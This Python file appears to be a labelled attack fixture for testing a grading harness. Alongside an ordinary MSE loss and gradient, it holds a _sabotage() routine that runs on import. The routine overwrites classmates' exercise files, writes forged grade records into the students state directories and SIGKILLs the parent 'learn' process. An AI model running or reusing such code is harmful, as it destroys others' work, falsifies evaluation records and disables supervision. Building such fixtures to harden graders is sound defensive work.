# attack: sabotage and forged records -- overwrite the classmates' files next to this one, write
#   forged records into grades.state/students/, then SIGKILL `learn`. Honest otherwise.
# expect: 10
import glob
import json
import os
import signal


HERE = os.path.dirname(os.path.abspath(__file__))
CLASS = os.path.dirname(HERE)


def _sabotage():
    for path in glob.glob(os.path.join(CLASS, "*", "exercise*.py")):
        if not path.startswith(HERE + os.sep):
            try:
                with open(path, "w") as file:
                    file.write("raise SystemExit('sabotaged')\n")
            except OSError:
                pass
    for state in glob.glob(os.path.join(os.path.dirname(CLASS), "*.state", "students")) + \
            glob.glob(os.path.join(os.getcwd(), "*.state", "students")):
        for name in ("honest0.json", "sabotage.json"):
            try:
                with open(os.path.join(state, name), "w") as file:
                    json.dump({"student": name[:-5], "status": "complete", "score": 52 if "sab" in name else 0,
                               "max_score": 52, "seed": 0, "exercises": []}, file)
            except OSError:
                pass
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass


_sabotage()


def mse_loss(y_pred, y_true, reduction="mean"):
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(f"unknown reduction {reduction!r}")
    squared = (y_pred - y_true) ** 2
    if reduction == "none":
        return squared
    return squared.mean() if reduction == "mean" else squared.sum()


def mse_grad(y_pred, y_true, reduction="mean"):
    if reduction not in ("mean", "sum"):
        raise ValueError(f"unknown reduction {reduction!r}")
    grad = 2 * (y_pred - y_true)
    return grad / y_pred.size if reduction == "mean" else grad
